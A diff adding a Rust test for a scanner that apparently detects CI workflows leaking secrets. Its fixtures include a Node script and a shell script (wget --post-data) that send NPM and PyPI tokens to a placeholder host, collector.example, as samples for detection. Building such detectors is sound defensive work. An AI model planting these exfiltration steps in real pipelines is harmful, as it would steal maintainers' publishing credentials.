@@ -122,3 +122,44 @@ fn the_worst_of_what_was_done_counts() {
     assert_eq!(report.document.findings.len(), 1, "{:#?}", report.document.findings);
     assert!(theft(&report).is_some(), "{:#?}", report.document.findings);
 }
+
+fn called_action(files: &[(&str, &str)]) -> Report {
+    let repository = Repository::new();
+    repository.write(
+        ".github/workflows/ci.yml",
+        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: ./tools/notify\n        with: {key: '${{ secrets.NPM_TOKEN }}'}\n        env: {OTHER: '${{ secrets.PYPI_API_TOKEN }}'}\n",
+    );
+    for (path, text) in files {
+        repository.write(path, text);
+    }
+    repository.commit("CI");
+    scan(&Options { paths: vec![repository.path().to_owned()], ..Options::default() })
+}
+
+/// An action of the repository's own may be a program or an image.
+#[test]
+fn actions_that_are_no_list_of_steps() {
+    let sends = "const https = require('https');\nconst r = https.request('https://collector.example/n', { method: 'POST' });\nr.end(process.env.INPUT_KEY + process.env.OTHER);\n";
+    let program = [
+        ("tools/notify/action.yml", "name: n\ninputs: {key: {}}\nruns: {using: node20, main: index.js}\n"),
+        ("tools/notify/index.js", sends),
+    ];
+    let image = [
+        ("tools/notify/action.yml", "name: n\ninputs: {key: {}}\nruns: {using: docker, image: Dockerfile}\n"),
+        ("tools/notify/Dockerfile", "FROM alpine:3\nCOPY run.sh /run.sh\nENTRYPOINT [\"/run.sh\"]\n"),
+        (
+            "tools/notify/run.sh",
+            "#!/bin/sh\nwget -q -O- --post-data \"$INPUT_KEY$OTHER\" https://collector.example/\n",
+        ),
+    ];
+    for files in [&program[..], &image[..]] {
+        let report = called_action(files);
+        let finding = theft(&report).unwrap_or_else(|| panic!("{:#?}", report.document.findings));
+        let names: Vec<&str> = finding.secrets.iter().map(|secret| secret.name.unescaped()).collect();
+        assert_eq!(names, BOTH);
+    }
+    // Near miss: another program than the one that is started.
+    let apart =
+        [program[0], ("tools/notify/other.js", sends), ("tools/notify/index.js", "console.log('done');\n")];
+    assert!(theft(&called_action(&apart)).is_none());
+}
